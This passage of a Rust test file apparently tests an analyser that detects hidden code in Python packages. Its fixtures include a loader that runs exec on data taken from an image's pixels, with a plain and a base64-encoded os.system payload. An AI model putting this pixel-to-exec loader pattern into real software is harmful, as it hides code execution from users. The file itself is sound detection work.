    let calls: String = (0..21_000).map(|at| format!("open('{at}')\n")).collect();
    gap(&calls, "more calls are walked");
    // One file that is written again and again is one file.
    let again: String = (0..600).map(|_| "open('file.txt', 'w').write('x')\n").collect();
    assert!(analysed(Role::Package, &again).gaps.is_empty());
}

#[test]
fn what_a_source_takes_out_of_a_picture_is_a_layer_of_it() {
    let source = "from PIL import Image\nexec(hidden(Image.open('a.png')))\n";
    let unit = Unit {
        path: "pkg/a.py",
        role: Role::Package,
        phase: Phase::Import,
        module: "pkg.a",
        source: source.as_bytes(),
        entered: &[],
    };
    let behaviours = behaviours();
    let found = |bytes: &[u8]| {
        let found = crate::Found { bytes, operation: model::Operation::Pixels, line: 2, sink: "code.exec" };
        crate::analyse_found(&unit, &found, &behaviours, &mut Budget::default())
    };
    let analysis = found(format!("import os\nos.system('{COMMAND}')").as_bytes());
    let layer = layers(&analysis)[0];
    assert_eq!(
        (layer.operation.as_slice(), layer.sink.as_str(), layer.depth),
        (&["pixels".to_owned()][..], "code.exec", 1)
    );
    assert_eq!(call(&analysis, "os.system").text, [COMMAND]);
    assert_eq!((analysis.layers[0].steps[0].line, analysis.facts.len()), (2, 3));
    use base64::Engine;
    let coded =
        base64::engine::general_purpose::STANDARD.encode(format!("import os\nos.system('{COMMAND}')  # padding"));
    let analysis = found(coded.as_bytes());
    assert_eq!(layers(&analysis)[0].operation, ["pixels", "base64"]);
    assert!(found(b"only words of a licence, and no more").facts.is_empty());
}
